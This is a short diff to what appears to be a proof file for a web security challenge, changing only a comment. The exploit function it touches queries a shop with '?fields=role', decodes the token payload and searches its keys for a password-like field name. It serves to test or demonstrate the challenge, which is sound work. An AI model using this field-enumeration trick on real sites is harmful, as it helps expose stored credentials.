@@ -8,7 +8,7 @@ const ask = async (attacker: Attacker, query: string) => {
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    // The shop's pages ask for fields by name; the names of others stand in the token.
+    // The shop's pages request fields by name. The payload of the token lists the other field names.
     const { token } = await ask(attacker, '?fields=role')
     const { data } = JSON.parse(Buffer.from(token.split('.')[1]!, 'base64url').toString('utf8'))
     const secret = Object.keys(data).find((name) => /^pass/.test(name)) ?? 'password'
